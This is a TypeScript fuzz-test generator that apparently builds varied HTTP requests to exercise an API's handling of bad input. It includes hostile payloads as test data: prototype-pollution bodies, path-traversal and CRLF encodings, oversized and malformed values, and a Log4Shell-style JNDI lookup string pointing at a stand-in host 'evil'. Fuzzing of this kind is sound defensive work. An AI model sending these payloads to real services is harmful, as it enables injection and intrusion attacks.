import fc from 'fast-check';
import type { AnyAction } from '../kernel/action/action.ts';
import { hostile, fitting, bent, type Schema } from './fuzz-values.ts';

/** One request of the fuzzer. */
export interface FuzzedRequest {
  operation: string;
  method: AnyAction['spec']['method'];
  url: string;
  headers: Record<string, string>;
  /** JSON text, or what passes for it. */
  payload: string | undefined;
}

/** What is sent as a body: JSON of all kinds, and what is none. */
function bodyText(schema: Schema | undefined): fc.Arbitrary<string | undefined> {
  if (!schema) return fc.constantFrom(undefined, undefined, '{}', '{"a":1}', 'null');
  return fc.oneof(
    { arbitrary: bent(schema).map((value) => JSON.stringify(value)), weight: 8 },
    { arbitrary: hostile.map((value) => JSON.stringify(value)), weight: 1 },
    {
      arbitrary: fc.constantFrom(
        undefined,
        '',
        '{',
        '{"__proto__":{"admin":true}}',
        '{"constructor":{"prototype":{"admin":true}}}',
        `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
        `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
        '"\ud800"',
        '1e999',
        `{"a":"${'a'.repeat(70_000)}"}`,
      ),
      weight: 2,
    },
  );
}

/** What is sent as a form: fields that fit, hostile ones, and what is none. */
function formText(schema: Schema | undefined): fc.Arbitrary<string | undefined> {
  const fields = bent(schema).map((object) =>
    Object.entries(object)
      .map(([name, value]) => `${urlText(name)}=${urlText(value)}`)
      .join('&'),
  );
  const tricks = fc.constantFrom(
    undefined,
    '',
    '&&==%',
    '__proto__=a&constructor=b',
    'a=1&a=2',
    '%00=%00',
    '{"a":1}',
    'a=%zz',
    `a=${'b'.repeat(70_000)}`,
  );
  return fc.oneof({ arbitrary: fields, weight: 8 }, { arbitrary: tricks, weight: 2 });
}

const headers: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { arbitrary: fc.constant({}), weight: 5 },
  {
    arbitrary: fc.constantFrom(
      { 'idempotency-key': 'x'.repeat(129) },
      { 'idempotency-key': 'a\u00e9b with spaces' },
      { 'x-request-id': '${jndi:ldap://evil}' },
      { 'if-none-match': 'W/"' },
      { 'accept-encoding': 'br;q=0, *;q=0' },
      { 'content-type': 'application/json; charset=utf-16' },
      { 'content-type': 'text/html' },
      { 'content-encoding': 'gzip' },
      { cookie: `refresh=${'%'.repeat(200)}; ;=;a` },
      { 'x-forwarded-for': 'not an address, 1.2.3.4' },
      { origin: 'http://[::' },
      { 'user-agent': 'a'.repeat(3_000) },
    ),
    weight: 1,
  },
);

const PATH_TRICKS = [
  '..',
  '%2e%2e%2f',
  '%00',
  '%',
  '%zz',
  '%c0%af',
  '%ff',
  '+',
  '*',
  'a%2fb',
  '%0d%0a',
  '😀',
];

/** A value as it can stand in an address. */
function urlText(value: unknown): string {
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return encodeURIComponent(text.toWellFormed());
}

function pathText(value: unknown): string {
  return urlText(value) || '%20';
}

/** A part of a path: what fits, what fits not, and what tries to leave. */
function pathPart(schema: Schema | undefined): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fitting(schema ?? {}).map(pathText), weight: 4 },
    { arbitrary: hostile.map(pathText), weight: 2 },
    { arbitrary: fc.constantFrom(...PATH_TRICKS), weight: 1 },
  );
}

function queryText(schema: Schema | undefined): fc.Arbitrary<string> {
  const pairs = bent(schema).map((object) =>
    Object.entries(object)
      .map(([name, value]) => `${name}=${urlText(value)}`)
      .join('&'),
  );
  const tricks = fc.constantFrom(
    '',
    '__proto__[a]=b',
    'limit=1&limit=2',
    'cursor=%',
    'a[b]=c',
    '&&==',
    'cursor=W10',
    'cursor=WzFd',
    'cursor=WyJhIiwxXQ',
    `cursor=${'A'.repeat(500)}`,
  );
  return fc.oneof({ arbitrary: pairs, weight: 3 }, { arbitrary: tricks, weight: 2 });
}

const FORMATS = {
  json: 'application/json',
  form: 'application/x-www-form-urlencoded',
  bytes: 'application/octet-stream',
};

/** What is sent as a file: beginnings of files, and what is none. */
function fileText(): fc.Arbitrary<string | undefined> {
  const begin = fc.constantFrom('', 'PK\u0003\u0004', 'OggS', 'RIFF....WAVE', 'ID3', '\u0000', '{');
  return fc.tuple(begin, fc.string({ maxLength: 300 })).map(([first, rest]) => first + rest);
}

/** Requests to one action, from proper to hostile. */
export function requestsTo({ spec }: AnyAction): fc.Arbitrary<FuzzedRequest> {
  const params = (spec.params ?? {}) as Schema;
  const { bodyFormat = 'json' } = spec;
  const format = FORMATS[bodyFormat];
  const bodyOf = bodyFormat === 'form' ? formText : bodyFormat === 'bytes' ? fileText : bodyText;
  const names = [...spec.path.matchAll(/:(\w+)/g)].map(([, name]) => name ?? '');
  const parts = fc.tuple(...names.map((name) => pathPart(params.properties?.[name])));
  return fc
    .tuple(
      parts,
      queryText(spec.query as Schema | undefined),
      bodyOf(spec.body as Schema | undefined),
      headers,
    )
    .map(([values, query, payload, more]) => {
      let i = 0;
      const path = spec.path.replace(/:\w+/g, () => values[i++] ?? '');
      const type = payload === undefined ? {} : { 'content-type': format };
      return {
        operation: spec.operation,
        method: spec.method,
        url: `/api${path}${query ? `?${query}` : ''}`,
        headers: { ...type, ...more },
        payload: spec.method === 'GET' ? undefined : payload,
      };
    });
}
